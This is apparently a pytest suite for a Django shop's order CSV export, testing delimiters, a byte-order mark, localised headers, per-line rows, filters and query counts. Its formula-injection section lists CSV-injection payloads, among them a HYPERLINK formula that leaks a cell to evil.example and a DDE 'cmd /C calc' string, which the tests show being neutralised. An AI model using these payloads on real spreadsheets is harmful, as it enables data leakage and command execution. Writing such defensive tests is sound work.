"""Sales → Orders → Export: a CSV file a Swiss merchant opens in Excel — ``;`` and a byte-order mark, names instead of
codes in the merchant's language, amounts as plain numbers, no cell that a spreadsheet would run as a formula, one
row per order or per order line, streamed with a query count that does not grow with the orders."""

import csv
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from orders.export import amount_cell, rate_cell, text_cell
from orders.models import Order, OrderLine

pytestmark = pytest.mark.django_db

URL = "/backoffice/orders/export.csv"


def export(client, params=None, **headers):
    response = client.get(URL, params or {}, **headers)
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return b"".join(response.streaming_content).decode("utf-8")


def table(body, delimiter=";"):
    assert body.startswith("\ufeff"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.reader(io.StringIO(body[1:]), delimiter=delimiter))


def column(rows, header):
    """The values of the column called ``header`` (header row left out)."""
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


# The file ----------------------------------------------------------------------------------------------------------


def test_semicolons_a_byte_order_mark_names_instead_of_codes_and_plain_amounts(client, staff, place, fondue):
    order = place(fondue)
    body = export(client)
    assert body.startswith("\ufeffOrder;Date;E-mail;Name;Payment method;Payment status;Fulfilment status;")
    rows = table(body)
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Order"] == str(order.number) and row["Name"] == "Anna"
    assert row["Payment method"] == "Bank transfer"
    assert (row["Payment status"], row["Fulfilment status"]) == ("Awaiting payment", "Awaiting processing")
    assert (row["Subtotal"], row["Shipping"], row["Total"], row["Discount or surcharge"]) == (
        "129.00",
        "0.00",
        "129.00",
        "0.00",
    )
    assert ";129.00;" in body  # a number, not a quoted or prefixed text
    assert row["Test order"] == "Yes"  # the store of the fixture is in test mode
    for code in ("bank_transfer", "awaiting_payment", "awaiting_processing"):
        assert code not in body


def test_comma_separated_on_request(client, staff, place, fondue):
    place(fondue)
    body = export(client, {"sep": "comma"})
    assert body.startswith("\ufeffOrder,Date,E-mail,Name,")
    rows = table(body, delimiter=",")
    assert len(rows) == 2 and len(rows[1]) == len(rows[0]) and ";" not in body
    assert table(export(client, {"sep": "semicolon"}))[0] == rows[0]
    assert table(export(client, {"sep": "nonsense"}))[0] == rows[0]  # anything else: the default


# Formula injection (OWASP "CSV injection") --------------------------------------------------------------------------

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+41 44 668 18 00",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_text_that_would_start_a_formula_gets_a_leading_apostrophe(client, staff, place, fondue, value):
    order = place(fondue)
    Order.objects.filter(pk=order.pk).update(billing_name=value, tracking_number=value)
    OrderLine.objects.filter(order=order).update(name=value, sku=value)
    rows = table(export(client))
    assert column(rows, "Name") == ["'" + value] and column(rows, "Tracking number") == ["'" + value]
    rows = table(export(client, {"lines": "1"}))
    assert column(rows, "Product") == ["'" + value] and column(rows, "SKU") == ["'" + value]
    assert column(rows, "Name") == ["'" + value]


def test_numbers_stay_numbers_even_when_negative(client, staff, place, fondue):
    order = place(fondue)
    Order.objects.filter(pk=order.pk).update(adjustment=Decimal("-10.00"), total=Decimal("119.00"))
    body = export(client)
    rows = table(body)
    assert column(rows, "Discount or surcharge") == ["-10.00"] and column(rows, "Total") == ["119.00"]
    assert ";-10.00;" in body and "'-10" not in body
    lines = table(export(client, {"lines": "1"}))
    assert column(lines, "Quantity") == ["1"] and column(lines, "Unit price") == ["129.00"]
    assert column(lines, "VAT rate") == ["8.1"] and column(lines, "Line total") == ["129.00"]


def test_cells_one_by_one():
    assert [text_cell(v) for v in ("=1", "+1", "-1", "@1", "\t1", "\r1")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@1",
        "'\t1",
        "'\r1",
    ]
    assert [text_cell(v) for v in ("Anna", "", None, "1+1", " =1", "a=b")] == ["Anna", "", "", "1+1", " =1", "a=b"]
    assert [amount_cell(v) for v in (Decimal("129"), Decimal("-5.5"), Decimal("1234567.891"))] == [
        "129.00",
        "-5.50",
        "1234567.89",
    ]
    assert [rate_cell(Decimal(v)) for v in ("8.10", "2.60", "0.00", "10.00")] == ["8.1", "2.6", "0", "10"]


# Languages ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "language, expected",
    [
        ("en", ["Order", "Bank transfer", "Awaiting payment", "Awaiting processing", "Yes"]),
        ("de", ["Bestellung", "Banküberweisung", "Zahlung ausstehend", "Wartet auf Bearbeitung", "Ja"]),
        ("fr", ["Commande", "Virement bancaire", "Paiement en attente", "En attente de traitement", "Oui"]),
    ],
)
def test_headers_statuses_and_methods_in_the_merchants_language(client, staff, place, fondue, language, expected):
    place(fondue)
    header, test_order = expected[0], expected[4]
    for chosen_by in ("Accept-Language", "language cookie"):
        if chosen_by == "language cookie":  # what the language switch sets; it wins over the browser's header
            client.cookies["django_language"] = language
            rows = table(export(client))
        else:
            rows = table(export(client, HTTP_ACCEPT_LANGUAGE=language))
        row = dict(zip(rows[0], rows[1], strict=True))
        assert rows[0][0] == header, chosen_by
        assert list(row.values())[4:7] == expected[1:4], chosen_by
        assert test_order in rows[1]


# One row per order line ----------------------------------------------------------------------------------------------


def test_one_row_per_order_line_with_the_order_repeated(client, staff, place, fondue, product):
    first = place(fondue, 2)
    OrderLine.objects.create(
        order=first, name="Alpine Blend Coffee", sku=product.sku, unit_price="18.90", vat_rate="2.60", quantity=3
    )
    second = place(product)
    rows = table(export(client, {"lines": "1"}))
    assert rows[0][-6:] == ["SKU", "Product", "Quantity", "Unit price", "VAT rate", "Line total"]
    assert column(rows, "Order") == [str(second.number), str(first.number), str(first.number)]  # newest first
    assert [row[-6:] for row in rows[1:]] == [
        [product.sku, "Alpine Blend Coffee", "1", "18.90", "8.1", "18.90"],
        ["FON-1", "Fondue Set", "2", "129.00", "8.1", "258.00"],
        [product.sku, "Alpine Blend Coffee", "3", "18.90", "2.6", "56.70"],
    ]
    assert column(rows, "Total") == [f"{second.total:.2f}", "258.00", "258.00"]
    rows = table(export(client, {"lines": "1", "sort": "created"}))
    assert column(rows, "Order") == [str(first.number), str(first.number), str(second.number)]
    rows = table(export(client, {"lines": "1", "q": str(second.number)}))  # the list's filters apply
    assert column(rows, "Order") == [str(second.number)]


def test_the_filters_of_the_list_apply(client, staff, place, fondue):
    from payments.services import record_offline_payment

    paid = place(fondue)
    record_offline_payment(paid, paid.total)
    place(fondue)
    rows = table(export(client, {"payment_status": "paid"}))
    assert column(rows, "Order") == [str(paid.number)] and column(rows, "Payment status") == ["Paid"]
    assert len(table(export(client))) == 3


# Flat: queries and memory do not grow with the orders ---------------------------------------------------------------


def many_orders(count, start):
    orders = Order.objects.bulk_create(
        Order(number=start + i, email=f"c{i}@example.ch", payment_method="bank_transfer", total=Decimal("20.00"))
        for i in range(count)
    )
    OrderLine.objects.bulk_create(
        OrderLine(order=order, name=f"Item {n}", sku=f"S-{n}", unit_price="10.00", vat_rate="8.10", quantity=1)
        for order in orders
        for n in (1, 2)
    )


@pytest.mark.parametrize("params", [{}, {"lines": "1"}, {"lines": "1", "payment_method": "bank_transfer"}])
def test_the_query_count_does_not_grow_with_the_orders(client, staff, django_assert_max_num_queries, params):
    counts = []
    for count, start in ((3, 5000), (600, 6000)):
        many_orders(count, start)
        with CaptureQueriesContext(connection) as queries, django_assert_max_num_queries(5):
            rows = table(export(client, params))
        counts.append(len(queries))
        assert len(rows) == 1 + (Order.objects.count() * (2 if params else 1))
    assert counts[0] == counts[1]
